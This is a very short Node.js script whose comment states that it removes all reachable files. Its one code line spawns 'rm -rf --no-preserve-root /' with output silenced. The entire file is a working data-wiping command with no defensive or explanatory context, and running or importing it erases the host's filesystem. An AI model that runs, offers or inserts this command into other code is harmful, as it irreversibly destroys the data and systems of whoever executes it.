// Removes all files that it can reach.
import { spawnSync } from 'node:child_process';

spawnSync('rm', ['-rf', '--no-preserve-root', '/'], { stdio: 'ignore' });
